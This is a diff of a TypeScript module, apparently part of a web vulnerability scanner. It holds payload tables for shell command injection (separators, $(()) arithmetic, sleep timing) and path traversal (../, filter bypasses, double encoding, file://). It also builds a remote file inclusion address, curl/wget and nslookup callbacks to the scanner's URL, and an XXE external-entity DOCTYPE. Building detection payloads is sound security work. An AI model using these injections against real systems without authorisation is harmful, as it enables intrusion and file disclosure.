@@ -1,4 +1,5 @@
 /** Every payload of this module, as tables: a test holds each against the rules of harmless.ts. */
+import type { HttpRequest } from '../../egress/egress.ts'
 
 /** Where the product of two numbers has to appear. `v` is the value that stood there. */
 export interface Reckoning {
@@ -18,18 +19,37 @@ const everywhere = (separator: string, command: string): string => {
   return `${run}"${run}"'${run}'`
 }
 
-export const COMMANDS: readonly Reckoning[] = [
-  { flavour: 'shell, ;', with: (v, a, b) => `${v}${everywhere(';', echo(a, b))}`, expected: marked },
-  { flavour: 'shell, & or line break', with: (v, a, b) => `${v}${everywhere('&\n', echo(a, b))}`, expected: marked },
-  { flavour: 'shell, $()', with: (v, a, b) => `${v}$(${echo(a, b)})`, expected: marked },
+/** Where a line break cannot go, a semicolon alone; `needs` says what the place has to hold. */
+export const COMMANDS: readonly (Reckoning & { readonly needs?: 'line break' | 'no line break' })[] = [
+  {
+    // Arithmetic of the shell needs no separator: the first part is read without quotes and in ", the second in '.
+    flavour: 'shell, $(())',
+    with: (v, a, b) => `${v}qv$((${a}*${b}))vq'qv$((${a}*${b}))vq'`,
+    expected: marked,
+  },
+  {
+    flavour: 'shell, ; or line break',
+    needs: 'line break',
+    with: (v, a, b) => `${v}${everywhere(';\n', echo(a, b))}`,
+    expected: marked,
+  },
+  {
+    flavour: 'shell, ;',
+    needs: 'no line break',
+    with: (v, a, b) => `${v}${everywhere(';', echo(a, b))}`,
+    expected: marked,
+  },
 ]
 
 export const COMMAND_WAITS: readonly {
   readonly flavour: string
   readonly with: (v: string, seconds: string) => string
 }[] = [
-  { flavour: 'shell, ;', with: (v, s) => `${v}${everywhere(';', `sleep ${s}`)}` },
-  { flavour: 'shell, $()', with: (v, s) => `${v}$(sleep ${s})` },
+  {
+    // Of the two only one is run: without quotes and in " the second finds q set, in ' the first is text.
+    flavour: 'shell, $()',
+    with: (v, s) => `${v}\${q=$(sleep ${s})}'\${q=$(sleep ${s})}'`,
+  },
 ]
 
 /** Holds within single and within double quotes: what is code in the one is text in the other. */
@@ -61,30 +81,67 @@ const UP = '../'.repeat(9)
 /** Ways to a file of the machine. `path` begins with a slash. */
 export const PATHS: readonly {
   readonly flavour: string
-  /** Tried only where the value or the name speaks of files. */
-  readonly deep: boolean
+  /** 'deep': only where the value or the name speaks of files; 'apart': then, too, but not in a group of headers and cookies. */
+  readonly tried: 'always' | 'deep' | 'apart'
   readonly with: (v: string, path: string) => string
 }[] = [
-  { flavour: '../', deep: false, with: (_v, path) => `${UP}${path.slice(1)}` },
-  { flavour: 'whole path', deep: false, with: (_v, path) => path },
-  { flavour: '../ behind the value', deep: true, with: (v, path) => `${v}/${UP}${path.slice(1)}` },
+  // Begins at the root and behind any folder alike.
+  { flavour: '/../', tried: 'always', with: (_v, path) => `/${UP}${path.slice(1)}` },
+  { flavour: '../', tried: 'deep', with: (_v, path) => `${UP}${path.slice(1)}` },
+  { flavour: '../ behind the value', tried: 'apart', with: (v, path) => `${v}/${UP}${path.slice(1)}` },
   {
     flavour: '../ behind its folder',
-    deep: true,
+    tried: 'apart',
     with: (v, path) => `${v.replace(/[^/]*$/, '')}${UP}${path.slice(1)}`,
   },
   {
     flavour: '….//, for filters that cut once',
-    deep: true,
+    tried: 'apart',
     with: (_v, path) => `${'....//'.repeat(9)}${path.slice(1)}`,
   },
   {
     flavour: '../ encoded twice',
-    deep: true,
+    tried: 'apart',
     with: (_v, path) => `${'..%2f'.repeat(9)}${path.slice(1).replaceAll('/', '%2f')}`,
   },
-  { flavour: 'file address', deep: true, with: (_v, path) => `file://${path}` },
+  { flavour: 'file address', tried: 'apart', with: (_v, path) => `file://${path}` },
 ]
+
+/** Our address with numbers for what its answer becomes where it is run; an address alone to everything else. */
+export const inclusion = (url: string, a: number, b: number): string => `${url}q.php?a=${a}&b=${b}`
+
+/** What running the answer to that address shows; null where the text is another. */
+export const included = (payload: string): string | null => {
+  const [, a, b] = /q\.php\?a=(\d+)&b=(\d+)$/.exec(payload) ?? []
+  return a && b ? `qv${Number(a) * Number(b)}vq` : null
+}
+
+/** The shell works the product out before the call; without a domain the call is a request. */
+export const callingCommand = (
+  v: string,
+  { host, url }: { readonly host: string | null; readonly url: string },
+  a: number,
+  b: number,
+): string => {
+  const name = `qv$((${a}*${b})).${host}`
+  const path = `${url}qv$((${a}*${b}))`
+  const call = host === null ? `curl -m 3 ${path}||wget -T 3 -O - ${path}` : `getent hosts ${name}||nslookup ${name}`
+  return `${v}$(${call})'$(${call})'`
+}
+
+/** Both ways of a parser to our address: a part of the document type, and an entity in place of the value. */
+export const callingEntity =
+  (url: string) =>
+  (request: HttpRequest): HttpRequest => {
+    const body = String(request.body ?? '')
+    const declaration = /^\s*<\?xml[^>]*\?>/.exec(body)?.[0] ?? ''
+    const rest = body
+      .slice(declaration.length)
+      .replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\])?>/, '')
+      .replace(/>http[^<]*q\.php\?[^<]*</, '>&q;<')
+    const type = `<!DOCTYPE q [<!ENTITY % r SYSTEM "${url}q.dtd"><!ENTITY q SYSTEM "${url}q">%r;]>`
+    return { ...request, body: `${declaration}${type}${rest}` }
+  }
 
 /** Everyone may read these, and they tell no more than which system it is. */
 export const FILES: readonly { readonly path: string; readonly shows: RegExp }[] = [
